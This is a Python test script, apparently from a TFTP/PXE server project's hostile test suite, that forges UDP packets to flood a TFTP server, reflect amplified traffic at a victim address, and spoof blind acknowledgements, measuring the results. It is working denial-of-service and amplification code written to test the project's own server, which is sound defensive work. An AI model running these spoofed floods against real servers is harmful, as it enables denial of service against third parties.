"""Attacks on TFTP, run on the neighbour's side: ``python -m tests.hostile.tftp_attack ATTACK SERVER PORT FILE …``.

``flood`` asks from made-up addresses; ``amplify`` asks in a victim's name and counts what the victim is sent; ``blind``
acknowledges too what it cannot have seen, on every port that it has learnt of.
"""

from __future__ import annotations

import socket
import sys
import time

from pixiecore_core.errors import WireError
from pixiecore_core.wire.tftp import Ack, Data, OptionAck, ReadRequest, parse, serialize
from tests.hostile.forging import HEADERS, Forger, made_up, paced, tell

VICTIM = "198.51.100.7"


def request(name: str, **options: object) -> bytes:
    """A read request."""
    return serialize(ReadRequest(name, "octet", tuple((key, str(value)) for key, value in options.items())))


def flood(server: str, port: int, name: str, rate: str, seconds: str) -> None:
    """Requests from made-up addresses; how many."""
    forger = Forger(server)
    asked = 0
    for asked in paced(float(rate), float(seconds)):
        forger.send(made_up(asked), port, request(name, timeout=255, blksize=1468, windowsize=64))
    tell(asked + 1)


def amplify(server: str, port: int, name: str, victim: str, *options: str) -> None:
    """Requests alone in a silent victim's name; bytes sent by us and to it, headers and all."""
    forger = Forger(server)
    asked = request(name, **dict(option.split("=") for option in options))
    for number in range(20):
        forger.send((victim, 2000 + number), port, asked)
        time.sleep(0.01)
    # Longer than an unanswered transfer lives.
    heard = sum(HEADERS + len(udp.data) for udp in forger.heard(6) if str(udp.destination) == victim)
    tell({"sent": forger.sent_bytes, "heard": heard})


def blind(server: str, port: int, name: str) -> None:
    """Learn what ports there are from four transfers of our own, then acknowledge in a victim's name."""
    ports = {learn(server, port, name) for _ in range(4)} | {port}
    forger = Forger(server)
    client = (VICTIM, 2001)
    forger.send(client, port, request(name, windowsize=64, blksize=1468))
    time.sleep(0.1)
    for block in range(0, 64 * 8, 64):
        for guess in ports:
            forger.send(client, guess, serialize(Ack(block)))
        time.sleep(0.02)
    data = sum(HEADERS + len(udp.data) for udp in forger.heard(1) if is_data(udp.data))
    tell({"sent": forger.sent_bytes, "heard": data})


def leave(server: str, port: int, name: str) -> None:
    """Ask, hear the answer, acknowledge it, and be gone."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.sendto(request(name, blksize=1468), (server, port))
        peer = client.recvfrom(2048)[1]
        client.sendto(serialize(Ack(0)), peer)
    tell(None)


def learn(server: str, port: int, name: str) -> int:
    """The port that an honest transfer comes from; broken off."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.sendto(request(name), (server, port))
        return int(client.recvfrom(2048)[1][1])


def is_data(datagram: bytes) -> bool:
    """Whether it is a block of a file."""
    try:
        return isinstance(parse(datagram), Data)
    except WireError:
        return False


def fetch(server: str, port: int, name: str, times: str) -> None:
    """Be an honest client, who asks again after a second as firmware does; seconds that each fetch took."""
    took = []
    for _ in range(int(times)):
        began = time.monotonic()
        length = fetch_once(server, port, request(name, blksize=1468, windowsize=8))
        took.append({"seconds": round(time.monotonic() - began, 3), "bytes": length})
    tell(took)


def fetch_once(server: str, port: int, asked: bytes) -> int:
    """The number of bytes that came."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        peer, said, number, received = (server, port), asked, 0, 0
        for _ in range(10_000):
            client.sendto(said, peer)
            while True:
                try:
                    datagram, peer = client.recvfrom(2048)
                except TimeoutError:
                    break
                packet = parse(datagram)
                if isinstance(packet, OptionAck):
                    said = serialize(Ack(0))
                    break
                if not isinstance(packet, Data):
                    return received  # an error
                if packet.block == number + 1:
                    number, received = number + 1, received + len(packet.payload)
                    said = serialize(Ack(number))
                if len(packet.payload) < 1468:
                    client.sendto(said, peer)
                    return received
                if number % 8 == 0:
                    break
    return received


if __name__ == "__main__":
    attack, server, port, *rest = sys.argv[1:]
    globals()[attack](server, int(port), *rest)
